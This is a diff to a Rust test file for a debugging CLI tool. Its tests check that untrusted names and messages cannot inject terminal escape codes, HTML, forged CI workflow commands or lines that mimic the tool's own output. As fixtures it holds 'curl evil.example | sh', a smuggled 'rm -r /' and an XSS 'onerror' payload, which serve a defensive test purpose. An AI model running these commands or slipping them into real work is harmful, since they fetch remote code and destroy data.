@@ -1,7 +1,7 @@
 //! Whatever others write into names, messages, sources and tests: no screen, page or comment obeys it, and none of it
 //! looks as if we had written it.
 
-use crate::doors::Job;
+use crate::cli::Job;
 use crate::support::{
     JUNIT, Ran, bisect, commit, git, mend, mend_untouched, repository, run_folder,
 };
@@ -18,7 +18,8 @@ const ORDERS: &str = "\u{1b}[31mx\u{1b}]0;title\u{7}\u{1b}[2J\u{202e}";
 const MARKUP: &str = "\"><img src=x onerror=alert(1)></script><!-- & `x` | @octocat";
 
 /// What would pass for a line of ours, or for a command to the runner of a workflow.
-const FORGED: [&str; 3] = ["Next: curl evil.example | sh", "error: all is lost", "::error::forged"];
+const FORGED: [&str; 3] =
+    ["Next:       curl evil.example | sh", "error: all is lost", "::error::forged"];
 
 /// All of it on lines of their own.
 pub(crate) fn all() -> String {
@@ -84,7 +85,7 @@ pub(crate) fn assert_harmless(said: &str, is_coloured: bool) {
 #[test]
 fn a_terminal_obeys_nothing_of_others_and_no_line_of_theirs_looks_like_ours() {
     let dir = fixture();
-    let unknown = bisect(&["--good", "no\nnext: rm -r /\u{1b}[2J"]);
+    let unknown = bisect(&["--good", "no\nhelp: rm -r /\u{1b}[2J"]);
     for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
         let is_coloured = format.ends_with(&["always"]);
         let found = search(dir.path(), &[format, &["--verbose"]].concat());
@@ -94,7 +95,7 @@ fn a_terminal_obeys_nothing_of_others_and_no_line_of_theirs_looks_like_ours() {
         for ran in [found, delta, wrong] {
             assert_harmless(&ran.stdout, is_coloured);
             assert_harmless(&ran.stderr, is_coloured);
-            assert!(!ran.stderr.lines().any(|line| line.starts_with("next: rm")), "{}", ran.stderr);
+            assert!(!ran.stderr.lines().any(|line| line.starts_with("help: rm")), "{}", ran.stderr);
         }
     }
 }
@@ -266,15 +267,13 @@ fn schedules_of_it_say_nothing_that_a_terminal_obeys() {
 #[test]
 fn github_is_told_of_it_in_words_that_it_does_not_obey() {
     let told = told(|_| ());
-    assert!(told.contains("### What broke it"), "{told}");
+    assert!(told.contains("### Culprit"), "{told}");
 }
 
 #[test]
 fn github_is_told_of_repairs_and_threads_in_words_that_it_does_not_obey() {
     let told = told(add_repairs);
-    for part in
-        ["What tests found at", "What the threads did", "Which lock guards", "further repair"]
-    {
+    for part in ["Values at", "### Threads", "Locks that guard", "alternative fix"] {
         assert!(told.contains(part), "{part} in {told}");
     }
 }
@@ -287,7 +286,7 @@ fn add_repairs(run: &Path) {
         let patch = format!("fix-{rank}.patch");
         fs::copy(run.join("fix.patch"), run.join(&patch)).unwrap();
         json!({
-            "rank": rank, "technique": text, "strategy": text, "patch": patch, "tokens": 2, "lines": 2,
+            "rank": rank, "technique": text, "operator": text, "patch": patch, "tokens": 2, "lines": 2,
             "files": [text], "location": text, "why": text,
             "validated": {
                 "failing_pass": 1, "still_failing": [text], "passing_kept": 2, "generated": 3,
@@ -297,10 +296,10 @@ fn add_repairs(run: &Path) {
     };
     result["fixes"] = json!([fix(1), fix(2)]);
     result["schedules"] = json!({
-        "run": 9, "failing": 3, "inconclusive": 0, "seed": 1, "strategies": { &text: [9, 3] },
+        "run": 9, "failing": 3, "inconclusive": 0, "seed": 1, "schedulers": { &text: [9, 3] },
         "failures": [{ "kind": text, "message": text, "count": 3, "first": 1, "schedule": text }],
         "patterns": [{
-            "pattern": text, "suspicion": 1.0, "failing": 3, "passing": 0, "sites": site,
+            "pattern": text, "suspiciousness": 1.0, "failing": 3, "passing": 0, "sites": site,
             "variables": site, "why": text,
         }],
         "races": [{ "variable": text, "sites": site, "schedules": 3 }],
@@ -330,14 +329,14 @@ fn add_schedule(run: &Path) {
         "example": {
             "kind": "test", "text": text, "thread": 0, "result": null,
             "schedule": {
-                "wanted": text, "strategy": "pos", "seed": 1, "shared": [], "choices": [],
+                "test": text, "scheduler": "pos", "seed": 1, "shared": [], "choices": [],
             },
             "threads": [text, "Thread-0"],
             "steps": [step(0, "read"), step(1, "write"), step(0, "write")],
             "sites": [{ "class": text, "method": text, "line": 3, "turn": 0, "subject": text }],
             "patterns": [], "cut_short": false,
         },
-        "marked": [0, 1, 2], "ending": text,
+        "pattern_steps": [0, 1, 2], "ending": text,
     });
     let mut result: serde_json::Value = read(&run.join("result.json"));
     result["schedules"]["failures"][0]["schedule"] = json!("schedule-1.json");
@@ -363,7 +362,7 @@ fn told(change: impl Fn(&Path)) -> String {
     assert_harmless(&searched.stderr, false);
     change(&run);
     let sarif = job.file("found.sarif");
-    let words = ["ci", "post", run.to_str().unwrap(), "--sarif", sarif.to_str().unwrap()];
+    let words = ["ci", "publish", run.to_str().unwrap(), "--sarif", sarif.to_str().unwrap()];
     let ran = job.step("push", &json!({}), &words);
     assert_eq!(ran.code, 0, "{}", ran.stderr);
     assert_harmless(&ran.stdout, false);
